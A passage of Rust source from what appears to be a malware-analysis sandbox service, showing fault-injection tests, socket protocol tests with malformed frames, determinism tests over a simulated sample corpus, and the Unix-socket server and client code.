            dst_ip: [2, 2, 2, 2],
            dst_port: 2,
        })
        .unwrap();
    let p1 = engine.tables_mut().intern_process(0x2000, "a.exe").unwrap();
    let p2 = engine.tables_mut().intern_process(0x3000, "b.exe").unwrap();
    engine.label_range_fresh(0, 4096, nf);
    // 100k propagation steps shuffling the same provenance shapes around.
    for round in 0..25u32 {
        for i in 0..4096u32 {
            let src = ShadowAddr::Mem(i);
            let dst = ShadowAddr::Mem(0x10_0000 + i);
            engine.copy(dst, src, 1);
            engine.append_tag(dst, if round % 2 == 0 { p1 } else { p2 });
        }
    }
    assert!(
        engine.interner().len() < 64,
        "interner must stay bounded: {} lists",
        engine.interner().len()
    );
    assert_eq!(engine.shadow().tainted_mem_bytes(), 2 * 4096);
}
