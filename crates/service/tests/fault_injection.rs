//! Fault-injection suite: prove the pool's containment story.
//!
//! Each test poisons specific jobs via a [`FaultPlan`] and asserts the
//! blast radius: the poisoned job fails with the right structured error,
//! its worker is replaced, every *other* job still completes, and the
//! queue drains to zero. No fault may wedge the service or corrupt a
//! healthy job's result.

use faros_service::fault::quiet_fault_panics;
use faros_service::{
    Detonator, Fault, FailureKind, FaultPlan, JobSpec, JobStatus, ServiceConfig,
};
use std::sync::Arc;
use std::time::Duration;

fn spec() -> JobSpec {
    // Small, fast, deterministic: a benign family variant.
    JobSpec::Scenario { name: "teamviewer_v209".into() }
}

fn config(workers: usize) -> ServiceConfig {
    ServiceConfig { workers, queue_capacity: 32, ..ServiceConfig::default() }
}

fn failure_kind(status: &JobStatus) -> Option<FailureKind> {
    match status {
        JobStatus::Failed(f) => Some(f.kind),
        _ => None,
    }
}

#[test]
fn panic_mid_replay_is_contained() {
    quiet_fault_panics();
    let faults = Arc::new(FaultPlan::new());
    faults.set(1, Fault::PanicMidReplay(50));
    let svc = Detonator::start_with_faults(config(2), faults);
    let ids: Vec<u64> = (0..6).map(|_| svc.submit_wait(spec()).unwrap()).collect();
    svc.drain();

    for &id in &ids {
        let view = svc.wait(id);
        if id == 1 {
            let failure = match view.status {
                JobStatus::Failed(f) => f,
                other => panic!("poisoned job must fail, got {other:?}"),
            };
            assert_eq!(failure.kind, FailureKind::WorkerPanic);
            assert!(
                failure.detail.contains("injected panic"),
                "failure carries the panic payload: {}",
                failure.detail
            );
        } else {
            assert!(
                matches!(view.status, JobStatus::Done(_)),
                "healthy job {id} must complete, got {:?}",
                view.status
            );
        }
    }

    let stats = svc.shutdown();
    assert_eq!(stats.completed, 5);
    assert_eq!(stats.failed, 1);
    assert_eq!(stats.queue_depth, 0, "queue drained");
    assert!(stats.workers_replaced >= 1, "the panicking worker was replaced");
    assert_eq!(
        stats.workers_spawned,
        2 + stats.workers_replaced,
        "every replacement spawned a fresh worker"
    );
}

#[test]
fn corrupt_report_is_caught_by_validation() {
    let faults = Arc::new(FaultPlan::new());
    faults.set(0, Fault::CorruptReport);
    let svc = Detonator::start_with_faults(config(2), faults);
    let poisoned = svc.submit_wait(spec()).unwrap();
    let healthy = svc.submit_wait(spec()).unwrap();
    svc.drain();

    let view = svc.wait(poisoned);
    assert_eq!(
        failure_kind(&view.status),
        Some(FailureKind::CorruptReport),
        "truncated report must fail validation, got {:?}",
        view.status
    );
    let healthy_view = svc.wait(healthy);
    let result = match healthy_view.status {
        JobStatus::Done(r) => r,
        other => panic!("healthy job must complete, got {other:?}"),
    };
    assert!(!result.report_json.is_empty());

    let stats = svc.shutdown();
    assert_eq!((stats.completed, stats.failed), (1, 1));
    // Report validation happens server-side, after execution: no worker
    // was harmed producing the corrupt report.
    assert_eq!(stats.workers_replaced, 0);
}

// Deadlines need headroom: a healthy debug-build job is ~60-100ms of CPU,
// and on a single-core runner N contending workers inflate that by ~N×.
// Stalls are several multiples of the deadline so the verdicts stay
// unambiguous even on a loaded machine.
const DEADLINE: Duration = Duration::from_millis(600);
const STALL: Duration = Duration::from_millis(2_000);

#[test]
fn stall_past_deadline_retires_the_worker() {
    let faults = Arc::new(FaultPlan::new());
    faults.set(0, Fault::Stall(STALL));
    let svc = Detonator::start_with_faults(
        ServiceConfig { deadline: Some(DEADLINE), ..config(2) },
        faults,
    );
    let stalled = svc.submit_wait(spec()).unwrap();
    let ids: Vec<u64> = (0..4).map(|_| svc.submit_wait(spec()).unwrap()).collect();

    let view = svc.wait(stalled);
    let failure = match view.status {
        JobStatus::Failed(f) => f,
        other => panic!("stalled job must fail, got {other:?}"),
    };
    assert_eq!(failure.kind, FailureKind::DeadlineExceeded);

    // The queue keeps draining on the replacement worker while the stalled
    // thread sleeps.
    svc.drain();
    for &id in &ids {
        assert!(
            matches!(svc.wait(id).status, JobStatus::Done(_)),
            "job {id} must complete on a live worker"
        );
    }

    // Give the detached stalled thread time to wake and try its (stale)
    // publish, then confirm it changed nothing.
    std::thread::sleep(STALL);
    assert_eq!(
        failure_kind(&svc.wait(stalled).status),
        Some(FailureKind::DeadlineExceeded),
        "the stale worker's late result must be dropped"
    );

    let stats = svc.shutdown();
    assert_eq!(stats.completed, 4);
    assert_eq!(stats.failed, 1);
    assert!(stats.workers_replaced >= 1, "the stalled worker was retired");
    assert_eq!(stats.queue_depth, 0);
}

#[test]
fn every_fault_class_in_one_run() {
    quiet_fault_panics();
    let faults = Arc::new(FaultPlan::new());
    faults.set(1, Fault::PanicMidReplay(10));
    faults.set(3, Fault::CorruptReport);
    faults.set(5, Fault::Stall(STALL));
    let svc = Detonator::start_with_faults(
        ServiceConfig { deadline: Some(DEADLINE), ..config(3) },
        faults,
    );
    let total = 9;
    for _ in 0..total {
        svc.submit_wait(spec()).unwrap();
    }
    svc.drain();

    let expected = [
        (1, FailureKind::WorkerPanic),
        (3, FailureKind::CorruptReport),
        (5, FailureKind::DeadlineExceeded),
    ];
    for (id, kind) in expected {
        assert_eq!(
            failure_kind(&svc.wait(id).status),
            Some(kind),
            "job {id} must fail as {kind}"
        );
    }
    for id in [0u64, 2, 4, 6, 7, 8] {
        assert!(
            matches!(svc.wait(id).status, JobStatus::Done(_)),
            "healthy job {id} must complete"
        );
    }
    // Let the stalled thread finish its nap before shutdown counts workers.
    std::thread::sleep(STALL);
    let stats = svc.shutdown();
    assert_eq!(stats.completed, 6);
    assert_eq!(stats.failed, 3);
    assert_eq!(stats.queue_depth, 0, "the queue drained through all faults");
    assert!(stats.workers_replaced >= 2, "panic and stall each cost a worker");
}

#[test]
fn invalid_specs_fail_structurally() {
    let svc = Detonator::start(config(2));
    let unknown = svc.submit(JobSpec::Scenario { name: "no_such_scenario".into() }).unwrap();
    let garbage = svc.submit(JobSpec::Recording { json: "not json at all".into() }).unwrap();
    let wrong_name = svc
        .submit(JobSpec::Recording {
            json: r#"{"scenario":"ghost","net_log":{"events":[]},"instructions":0,"clean_exit":true}"#
                .into(),
        })
        .unwrap();
    svc.drain();
    for id in [unknown, garbage, wrong_name] {
        assert_eq!(
            failure_kind(&svc.wait(id).status),
            Some(FailureKind::InvalidSpec),
            "job {id} must fail as invalid-spec"
        );
    }
    let stats = svc.shutdown();
    assert_eq!(stats.failed, 3);
    assert_eq!(stats.workers_replaced, 0, "bad input never costs a worker");
}

#[test]
fn shutdown_now_cancels_queued_jobs() {
    let faults = Arc::new(FaultPlan::new());
    faults.set(0, Fault::Stall(Duration::from_millis(250)));
    let svc = Detonator::start_with_faults(
        ServiceConfig { workers: 1, queue_capacity: 16, ..ServiceConfig::default() },
        faults,
    );
    let stalled = svc.submit_wait(spec()).unwrap();
    while !matches!(svc.status(stalled).unwrap().status, JobStatus::Running) {
        std::thread::sleep(Duration::from_millis(2));
    }
    let queued: Vec<u64> = (0..3).map(|_| svc.submit_wait(spec()).unwrap()).collect();
    let stats = svc.shutdown_now();
    assert_eq!(stats.cancelled, 3, "queued jobs were cancelled, not run");
    for id in queued {
        assert_eq!(failure_kind(&svc_status(&svc, id)), Some(FailureKind::Cancelled));
    }
    // The in-flight job was allowed to finish.
    assert!(matches!(svc.wait(stalled).status, JobStatus::Done(_)));
}

fn svc_status(svc: &Detonator, id: u64) -> JobStatus {
    svc.status(id).expect("known job").status
}
