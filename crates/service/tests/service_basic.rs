//! End-to-end service tests over the Unix socket: submit/wait/stats
//! round-trips, hostile framing, and shutdown semantics.

use faros_service::protocol::{read_frame, write_frame, FrameError, Request, Response, MAX_FRAME};
use faros_service::server::{serve, Client};
use faros_service::{JobSpec, JobStatus, ServiceConfig};
use faros_support::json::ToJson;
use std::io::Write;
use std::os::unix::net::UnixStream;
use std::path::PathBuf;

fn socket_path(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join("faros-service-tests");
    std::fs::create_dir_all(&dir).expect("socket dir");
    dir.join(format!("{tag}-{}.sock", std::process::id()))
}

fn config() -> ServiceConfig {
    ServiceConfig { workers: 2, queue_capacity: 16, ..ServiceConfig::default() }
}

#[test]
fn submit_wait_stats_shutdown_over_the_socket() {
    let path = socket_path("basic");
    let server = serve(&path, config()).expect("bind");
    let mut client = Client::connect(&path).expect("connect");
    client.ping().expect("ping");

    let id = client
        .submit(JobSpec::Scenario { name: "process_hollowing".into() })
        .expect("protocol")
        .expect("admitted");
    let view = client.wait(id).expect("wait");
    let result = match view.status {
        JobStatus::Done(r) => r,
        other => panic!("hollowing must complete, got {other:?}"),
    };
    assert!(result.flagged, "process hollowing must be flagged");
    assert!(result.report_json.contains("detections"));

    let benign = client
        .submit(JobSpec::Scenario { name: "teamviewer_v209".into() })
        .expect("protocol")
        .expect("admitted");
    let view = client.wait(benign).expect("wait");
    match view.status {
        JobStatus::Done(r) => assert!(!r.flagged, "teamviewer must stay clean"),
        other => panic!("benign job must complete, got {other:?}"),
    }

    let stats = client.stats().expect("stats");
    assert_eq!(stats.completed, 2);
    assert_eq!(stats.live_workers, 2);

    let finals = client.shutdown(true).expect("shutdown");
    assert_eq!(finals.completed, 2);
    assert_eq!(finals.queue_depth, 0);
    server.join();
    assert!(!path.exists(), "socket file removed on shutdown");
}

#[test]
fn unknown_ids_and_unknown_scenarios_are_structured() {
    let path = socket_path("unknown");
    let server = serve(&path, config()).expect("bind");
    let mut client = Client::connect(&path).expect("connect");

    match client.request(&Request::Status { id: 42 }).expect("protocol") {
        Response::UnknownJob { id: 42 } => {}
        other => panic!("expected unknown-job, got {other:?}"),
    }
    match client.request(&Request::Wait { id: 7 }).expect("protocol") {
        Response::UnknownJob { id: 7 } => {}
        other => panic!("expected unknown-job, got {other:?}"),
    }
    let id = client
        .submit(JobSpec::Scenario { name: "definitely_not_a_scenario".into() })
        .expect("protocol")
        .expect("admitted — validation happens at execution");
    let view = client.wait(id).expect("wait");
    assert!(
        matches!(view.status, JobStatus::Failed(ref f) if f.detail.contains("unknown scenario")),
        "got {:?}",
        view.status
    );
    server.stop();
}

#[test]
fn hostile_framing_never_kills_the_server_or_a_worker() {
    let path = socket_path("hostile");
    let server = serve(&path, config()).expect("bind");

    // 1. Valid frame, garbage JSON payload: structured error, connection
    //    stays usable.
    let mut stream = UnixStream::connect(&path).expect("connect");
    write_frame(&mut stream, "this is not json {{{").expect("write");
    match read_frame(&mut stream).expect("read").as_deref() {
        Some(payload) => assert!(payload.contains("error"), "got {payload}"),
        None => panic!("server must answer garbage with an error frame"),
    }
    write_frame(&mut stream, &Request::Ping.to_json_value().to_compact()).expect("write");
    let pong = read_frame(&mut stream).expect("read").expect("pong frame");
    assert!(pong.contains("pong"), "connection survives a malformed request: {pong}");

    // 2. Oversized length prefix: refused before allocation, structured
    //    error, connection closed.
    let mut stream = UnixStream::connect(&path).expect("connect");
    stream.write_all(&(MAX_FRAME + 1).to_le_bytes()).expect("write");
    stream.write_all(b"boom").expect("write");
    let err = read_frame(&mut stream).expect("read").expect("error frame");
    assert!(err.contains("exceeds"), "got {err}");
    // The connection is torn down. With the trailing garbage still unread
    // on the server side the kernel may reset instead of delivering a
    // graceful EOF — both count as closed.
    match read_frame(&mut stream) {
        Ok(None) => {}
        Err(FrameError::Io(e)) if e.kind() == std::io::ErrorKind::ConnectionReset => {}
        other => panic!("connection must be closed, got {other:?}"),
    }

    // 3. Truncated frame: declare 100 bytes, send 3, hang up.
    let mut stream = UnixStream::connect(&path).expect("connect");
    stream.write_all(&100u32.to_le_bytes()).expect("write");
    stream.write_all(b"abc").expect("write");
    stream.shutdown(std::net::Shutdown::Write).expect("half-close");
    let err = read_frame(&mut stream).expect("read").expect("error frame");
    assert!(err.contains("truncated"), "got {err}");

    // 4. A frame that *is* valid JSON but an unknown request type.
    let mut stream = UnixStream::connect(&path).expect("connect");
    write_frame(&mut stream, "{\"type\":\"warp-core\"}").expect("write");
    let err = read_frame(&mut stream).expect("read").expect("error frame");
    assert!(err.contains("unknown request type"), "got {err}");

    // After all of that: the server still works and no worker was lost.
    let mut client = Client::connect(&path).expect("connect");
    client.ping().expect("server alive");
    let stats = client.stats().expect("stats");
    assert_eq!(stats.live_workers, 2, "hostile framing must not cost workers");
    assert_eq!(stats.workers_replaced, 0);
    let id = client
        .submit(JobSpec::Scenario { name: "teamviewer_v209".into() })
        .expect("protocol")
        .expect("admitted");
    assert!(matches!(client.wait(id).expect("wait").status, JobStatus::Done(_)));
    server.stop();
}

#[test]
fn telemetry_verbs_work_over_the_socket() {
    use faros_service::HealthStatus;

    let path = socket_path("telemetry");
    let server = serve(&path, config()).expect("bind");
    let mut client = Client::connect(&path).expect("connect");

    let id = client
        .submit(JobSpec::Scenario { name: "process_hollowing".into() })
        .expect("protocol")
        .expect("admitted");
    let view = client.wait(id).expect("wait");
    assert!(matches!(view.status, JobStatus::Done(_)));

    // Metrics: the merged fold plus the wall-clock cost channel plus the
    // service's own gauges, all in one snapshot.
    let metrics = client.metrics().expect("metrics");
    assert!(!metrics.is_empty());
    assert!(
        metrics.histogram("phase.replay_ns").is_some(),
        "per-phase latency histograms ride the telemetry snapshot"
    );
    assert!(
        metrics.counter("service.queue.submitted").is_some()
            || metrics.counters.iter().any(|(name, _)| name.starts_with("service.")),
        "service gauges ride the telemetry snapshot: {:?}",
        metrics.counters
    );

    // Health: one completed job, no drops, no replacements -> all green.
    let health = client.health().expect("health");
    assert_eq!(health.verdict, HealthStatus::Ok, "got {health:?}");
    assert!(!health.checks.is_empty());

    // Trace: the flight recorder saw the job's service-side events.
    let (events, dropped) = client.trace(8).expect("trace");
    assert!(!events.is_empty(), "the flight recorder must hold service events");
    assert!(events.len() <= 8, "tail honours the requested bound");
    assert_eq!(dropped, 0, "a 4096-slot ring does not overflow on one job");

    server.stop();
}

#[test]
fn tiny_trace_rings_report_drops_at_every_layer() {
    use faros::AnalysisConfig;
    use faros_service::{Detonator, HealthStatus};

    // A per-job trace ring far smaller than the event stream a detonation
    // produces: the ring overwrites, every casualty is counted, and the
    // count surfaces at every layer traces are consumed — the job result,
    // the aggregated service stats, and the health verdict.
    let analysis = AnalysisConfig {
        capture_trace: true,
        trace_capacity: 4,
        ..AnalysisConfig::default()
    };
    let svc = Detonator::start(ServiceConfig {
        workers: 1,
        queue_capacity: 4,
        analysis,
        ..ServiceConfig::default()
    });
    let id = svc
        .submit_wait(JobSpec::Scenario { name: "process_hollowing".into() })
        .expect("admit");
    let result = match svc.wait(id).status {
        JobStatus::Done(r) => r,
        other => panic!("hollowing must complete, got {other:?}"),
    };
    assert!(result.trace_dropped > 0, "a 4-slot ring must drop events");
    assert!(
        result.trace_events <= 4,
        "the ring never holds more than its capacity, got {}",
        result.trace_events
    );

    let health = svc.health();
    let trace_check = health
        .checks
        .iter()
        .find(|c| c.name == "trace")
        .expect("health reports a trace check");
    assert_eq!(trace_check.status, HealthStatus::Warn, "drops degrade the trace check");

    let stats = svc.shutdown();
    assert_eq!(
        stats.trace_dropped, result.trace_dropped,
        "aggregated drops equal the single job's drops"
    );
}

#[test]
fn submissions_after_shutdown_are_refused() {
    let path = socket_path("after-shutdown");
    let server = serve(&path, config()).expect("bind");
    let mut client = Client::connect(&path).expect("connect");
    // Drain-shutdown from a second client while the first stays connected.
    let mut closer = Client::connect(&path).expect("connect");
    closer.shutdown(true).expect("shutdown");
    match client.submit(JobSpec::Scenario { name: "teamviewer_v209".into() }) {
        Ok(Err(Response::ShuttingDown)) => {}
        Ok(Err(other)) => panic!("expected shutting-down, got {other:?}"),
        Ok(Ok(id)) => panic!("admitted job {id} after shutdown"),
        Err(e) => {
            // Also acceptable: the accept loop already tore the stream down.
            let _ = e;
        }
    }
    server.join();
}
