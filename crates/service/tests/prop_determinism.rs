//! Determinism property: the service's parallel reports are byte-identical
//! to sequential pipeline runs.
//!
//! A 30-scenario corpus (the 9 injecting attacks + 21 Table IV family
//! variants) is recorded once, analyzed sequentially through
//! `faros::analyze_recording` (the baseline bytes), then submitted to
//! services at 1, 4, and 16 workers — each time in a differently shuffled
//! order under a pinned seed. Every worker-count/order combination must
//! reproduce the sequential report bytes exactly, and the merged metrics
//! (an order-independent fold) must be identical across all runs.

use faros::AnalysisConfig;
use faros_obs::metrics::MetricsSnapshot;
use faros_replay::{record, Recording};
use faros_service::{Detonator, JobSpec, JobStatus, ServiceConfig};
use faros_support::prop::Rng;
use std::collections::HashMap;

/// The 30-scenario corpus, by registry name: all 9 injecting samples plus
/// the first 21 entries of the Table IV false-positive dataset.
fn corpus_names() -> Vec<String> {
    let mut names: Vec<String> = faros_corpus::attacks::all_injecting_samples()
        .iter()
        .map(|s| s.name().to_string())
        .collect();
    names.extend(
        faros_corpus::families::fp_dataset().iter().take(21).map(|s| s.name().to_string()),
    );
    assert_eq!(names.len(), 30, "the determinism corpus is pinned at 30 scenarios");
    names
}

fn shuffle<T>(items: &mut [T], rng: &mut Rng) {
    for i in (1..items.len()).rev() {
        let j = rng.below(i as u64 + 1) as usize;
        items.swap(i, j);
    }
}

#[test]
fn parallel_reports_are_byte_identical_to_sequential() {
    let cfg = AnalysisConfig::default();
    let names = corpus_names();

    // Record each scenario once; every run (sequential and service) then
    // analyzes the *same* recording bytes.
    let mut recordings: Vec<(String, Recording)> = Vec::new();
    let mut baseline: HashMap<String, String> = HashMap::new();
    let mut sequential_fold = MetricsSnapshot::default();
    for name in &names {
        let sample = faros_corpus::find_sample(name).expect("corpus name resolves");
        let (recording, _) = record(&sample.scenario, cfg.budget).expect("record");
        let job = faros::analyze_recording(&sample.scenario, &recording, &cfg).expect("analyze");
        baseline.insert(name.clone(), job.report.to_json().expect("report json"));
        sequential_fold.merge(&job.report.metrics);
        recordings.push((name.clone(), recording));
    }

    let mut merged_reference = None;
    for (workers, seed) in [(1usize, 11u64), (4, 22), (16, 33)] {
        let mut order: Vec<usize> = (0..recordings.len()).collect();
        let mut rng = Rng::new(seed);
        shuffle(&mut order, &mut rng);

        let svc = Detonator::start(ServiceConfig {
            workers,
            queue_capacity: recordings.len(),
            ..ServiceConfig::default()
        });
        let mut submitted: Vec<(u64, &str)> = Vec::new();
        for &idx in &order {
            let (name, recording) = &recordings[idx];
            let id = svc
                .submit_wait(JobSpec::Recording { json: recording.to_json().unwrap() })
                .expect("admit");
            submitted.push((id, name));
        }
        svc.drain();
        for (id, name) in submitted {
            let view = svc.wait(id);
            let result = match view.status {
                JobStatus::Done(r) => r,
                other => panic!("{name} must complete at {workers} workers, got {other:?}"),
            };
            assert_eq!(
                &result.report_json, &baseline[name],
                "{name}: report bytes at {workers} workers differ from the sequential run"
            );
        }
        let stats = svc.shutdown();
        assert_eq!(stats.completed, recordings.len() as u64);
        assert_eq!(stats.failed, 0);
        // The merged metrics fold is order-independent, so every worker
        // count and submission order lands on the same snapshot — and that
        // snapshot must equal the sequential fold of the per-report
        // metrics, not just agree between service runs.
        assert_eq!(
            stats.merged, sequential_fold,
            "merged metrics at {workers} workers diverged from the sequential fold"
        );
        match &merged_reference {
            None => merged_reference = Some(stats.merged),
            Some(reference) => assert_eq!(
                &stats.merged, reference,
                "merged metrics at {workers} workers diverged"
            ),
        }
    }
}

/// Profiler determinism: with `profile` enabled, the `ProfileReport`
/// section (and its collapsed-stack export) is a pure function of the
/// recording — repeated replays produce byte-identical output, and
/// service workers at any parallelism reproduce the sequential bytes.
#[test]
fn profiled_reports_and_folded_stacks_are_deterministic() {
    let cfg = AnalysisConfig { profile: true, ..AnalysisConfig::default() };
    let samples: Vec<_> = faros_corpus::attacks::all_injecting_samples()
        .into_iter()
        .take(4)
        .collect();

    let mut recordings: Vec<(String, Recording)> = Vec::new();
    let mut baseline: HashMap<String, String> = HashMap::new();
    for sample in &samples {
        let name = sample.name().to_string();
        let (recording, _) = record(&sample.scenario, cfg.budget).expect("record");

        let first =
            faros::analyze_recording(&sample.scenario, &recording, &cfg).expect("analyze");
        let second =
            faros::analyze_recording(&sample.scenario, &recording, &cfg).expect("analyze");
        assert!(
            !first.report.profile.is_empty(),
            "{name}: the profiler must attribute retired instructions"
        );
        assert_eq!(
            first.report.profile.folded(),
            second.report.profile.folded(),
            "{name}: collapsed stacks differ between replays of one recording"
        );
        let report_json = first.report.to_json().expect("report json");
        assert_eq!(
            report_json,
            second.report.to_json().expect("report json"),
            "{name}: profiled report bytes differ between replays"
        );
        baseline.insert(name.clone(), report_json);
        recordings.push((name, recording));
    }

    for workers in [1usize, 4] {
        let svc = Detonator::start(ServiceConfig {
            workers,
            queue_capacity: recordings.len(),
            analysis: cfg.clone(),
            ..ServiceConfig::default()
        });
        let ids: Vec<(u64, &str)> = recordings
            .iter()
            .map(|(name, recording)| {
                let id = svc
                    .submit_wait(JobSpec::Recording { json: recording.to_json().unwrap() })
                    .expect("admit");
                (id, name.as_str())
            })
            .collect();
        svc.drain();
        for (id, name) in ids {
            match svc.wait(id).status {
                JobStatus::Done(result) => assert_eq!(
                    &result.report_json, &baseline[name],
                    "{name}: profiled report bytes at {workers} workers differ from sequential"
                ),
                other => panic!("{name} must complete, got {other:?}"),
            }
        }
        svc.shutdown();
    }
}
