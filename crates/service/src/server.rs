//! The socket server and its blocking client.
//!
//! [`serve`] binds a Unix-domain socket, starts a [`Detonator`], and
//! accepts connections on a background thread; each connection gets its
//! own handler thread speaking the framed protocol of
//! [`crate::protocol`]. A malformed frame or request produces a
//! structured [`Response::Error`] (then the connection closes on framing
//! damage) — the server never panics on client input and never leaks a
//! worker over it, which the protocol test suite pins.
//!
//! A [`Request::Shutdown`] drains (or cancels) the detonator, answers
//! with the final stats, and stops the accept loop; [`ServerHandle::join`]
//! then returns. The socket file is removed on the way out.

use crate::health::HealthReport;
use crate::job::{JobSpec, JobView};
use crate::protocol::{
    decode_request, decode_response, read_frame, write_frame, FrameError, Request, Response,
};
use crate::service::{Detonator, ServiceConfig, ServiceStats, SubmitError};
use faros_obs::metrics::MetricsSnapshot;
use faros_obs::trace::TraceEvent;
use std::io;
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

struct ServerState {
    det: Detonator,
    stop: AtomicBool,
}

impl ServerState {
    /// Handles one request; the `bool` asks the accept loop to stop.
    fn handle(&self, req: Request) -> (Response, bool) {
        match req {
            Request::Submit(spec) => {
                let resp = match self.det.submit(spec) {
                    Ok(id) => Response::Submitted { id },
                    Err(SubmitError::QueueFull) => Response::QueueFull {
                        capacity: self.det.queue_capacity() as u64,
                    },
                    Err(SubmitError::ShuttingDown) => Response::ShuttingDown,
                };
                (resp, false)
            }
            Request::Status { id } => match self.det.status(id) {
                Some(view) => (Response::Job(view), false),
                None => (Response::UnknownJob { id }, false),
            },
            Request::Wait { id } => {
                if self.det.status(id).is_none() {
                    (Response::UnknownJob { id }, false)
                } else {
                    (Response::Job(self.det.wait(id)), false)
                }
            }
            Request::Stats => (Response::Stats(self.det.stats()), false),
            Request::Shutdown { drain } => {
                let stats = if drain { self.det.shutdown() } else { self.det.shutdown_now() };
                self.stop.store(true, Ordering::SeqCst);
                (Response::Shutdown(stats), true)
            }
            Request::Ping => (Response::Pong, false),
            Request::Metrics => (Response::Metrics(self.det.telemetry_metrics()), false),
            Request::Health => (Response::Health(self.det.health()), false),
            Request::Trace { tail } => {
                let (events, dropped) = self.det.trace_tail(tail as usize);
                (Response::Trace { events, dropped }, false)
            }
        }
    }
}

/// A running server: the accept thread plus the socket path it owns.
#[derive(Debug)]
pub struct ServerHandle {
    path: PathBuf,
    accept: Option<JoinHandle<()>>,
    state: Arc<ServerState>,
}

impl std::fmt::Debug for ServerState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ServerState").finish()
    }
}

impl ServerHandle {
    /// The socket path the server listens on.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Blocks until the server stops (a client sent `Shutdown`, or
    /// [`ServerHandle::stop`] ran).
    pub fn join(mut self) {
        if let Some(handle) = self.accept.take() {
            let _ = handle.join();
        }
    }

    /// Stops the server from this side: cancels queued jobs, finishes
    /// in-flight ones, and joins the accept loop.
    pub fn stop(mut self) -> ServiceStats {
        let stats = self.state.det.shutdown_now();
        self.state.stop.store(true, Ordering::SeqCst);
        if let Some(handle) = self.accept.take() {
            let _ = handle.join();
        }
        stats
    }
}

/// Binds `path`, starts a [`Detonator`] with `config`, and serves until a
/// shutdown request arrives. A stale socket file at `path` is replaced.
///
/// # Errors
///
/// I/O errors from binding the socket.
pub fn serve(path: &Path, config: ServiceConfig) -> io::Result<ServerHandle> {
    let _ = std::fs::remove_file(path);
    let listener = UnixListener::bind(path)?;
    listener.set_nonblocking(true)?;
    let state = Arc::new(ServerState {
        det: Detonator::start(config),
        stop: AtomicBool::new(false),
    });
    let accept_state = Arc::clone(&state);
    let socket_path = path.to_path_buf();
    let accept = thread::spawn(move || {
        accept_loop(&listener, &accept_state);
        let _ = std::fs::remove_file(&socket_path);
    });
    Ok(ServerHandle { path: path.to_path_buf(), accept: Some(accept), state })
}

fn accept_loop(listener: &UnixListener, state: &Arc<ServerState>) {
    loop {
        if state.stop.load(Ordering::SeqCst) {
            break;
        }
        match listener.accept() {
            Ok((stream, _addr)) => {
                let _ = stream.set_nonblocking(false);
                let conn_state = Arc::clone(state);
                // Handlers are detached: an idle connection parks in
                // `read_frame` and exits on EOF when the client drops.
                thread::spawn(move || handle_connection(&conn_state, stream));
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                thread::sleep(Duration::from_millis(5));
            }
            Err(_) => break,
        }
    }
}

fn handle_connection(state: &Arc<ServerState>, mut stream: UnixStream) {
    loop {
        match read_frame(&mut stream) {
            Ok(None) => break,
            Ok(Some(payload)) => {
                let (response, stop) = match decode_request(&payload) {
                    Ok(req) => state.handle(req),
                    Err(e) => (Response::Error { message: e.to_string() }, false),
                };
                let encoded = response.to_compact();
                if write_frame(&mut stream, &encoded).is_err() {
                    break;
                }
                if stop {
                    break;
                }
            }
            Err(e) => {
                // Framing damage (truncation, oversized prefix, bad UTF-8):
                // answer with a structured error, then drop the connection —
                // resynchronizing a broken byte stream is not possible.
                // Discard unread input first: closing with pending bytes
                // resets the socket and would destroy the error frame
                // before the client reads it.
                let _ = stream.shutdown(std::net::Shutdown::Read);
                let encoded = Response::Error { message: e.to_string() }.to_compact();
                let _ = write_frame(&mut stream, &encoded);
                break;
            }
        }
    }
}

trait ToCompact {
    fn to_compact(&self) -> String;
}

impl ToCompact for Response {
    fn to_compact(&self) -> String {
        use faros_support::json::ToJson;
        self.to_json_value().to_compact()
    }
}

/// A blocking client for the service socket.
#[derive(Debug)]
pub struct Client {
    stream: UnixStream,
}

impl Client {
    /// Connects to a server socket.
    ///
    /// # Errors
    ///
    /// I/O errors from connecting.
    pub fn connect(path: &Path) -> io::Result<Client> {
        Ok(Client { stream: UnixStream::connect(path)? })
    }

    /// Sends one request and reads one response.
    ///
    /// # Errors
    ///
    /// Framing or I/O errors; a server that hung up mid-exchange surfaces
    /// as [`FrameError::Truncated`] or an empty stream error.
    pub fn request(&mut self, req: &Request) -> Result<Response, FrameError> {
        use faros_support::json::ToJson;
        write_frame(&mut self.stream, &req.to_json_value().to_compact())?;
        match read_frame(&mut self.stream)? {
            Some(payload) => decode_response(&payload),
            None => Err(FrameError::Truncated { expected: 4, got: 0 }),
        }
    }

    /// Submits a job and returns its id (or the refusal).
    ///
    /// # Errors
    ///
    /// Protocol errors, or the structured refusal as
    /// `Err(FrameError::Malformed)`-free `Ok(Err(response))`.
    pub fn submit(&mut self, spec: JobSpec) -> Result<Result<u64, Response>, FrameError> {
        match self.request(&Request::Submit(spec))? {
            Response::Submitted { id } => Ok(Ok(id)),
            other => Ok(Err(other)),
        }
    }

    /// Blocks until job `id` is terminal and returns its view.
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] if the server answers
    /// with anything but a job view.
    pub fn wait(&mut self, id: u64) -> Result<JobView, FrameError> {
        match self.request(&Request::Wait { id })? {
            Response::Job(view) => Ok(view),
            other => Err(FrameError::Malformed(format!("expected a job view, got {other:?}"))),
        }
    }

    /// Fetches service stats.
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] on an unexpected
    /// response shape.
    pub fn stats(&mut self) -> Result<ServiceStats, FrameError> {
        match self.request(&Request::Stats)? {
            Response::Stats(stats) => Ok(stats),
            other => Err(FrameError::Malformed(format!("expected stats, got {other:?}"))),
        }
    }

    /// Asks the server to shut down (draining when `drain`) and returns
    /// the final stats.
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] on an unexpected
    /// response shape.
    pub fn shutdown(&mut self, drain: bool) -> Result<ServiceStats, FrameError> {
        match self.request(&Request::Shutdown { drain })? {
            Response::Shutdown(stats) => Ok(stats),
            other => Err(FrameError::Malformed(format!("expected final stats, got {other:?}"))),
        }
    }

    /// Liveness probe.
    ///
    /// # Errors
    ///
    /// Protocol errors, or [`FrameError::Malformed`] if the answer is not
    /// a pong.
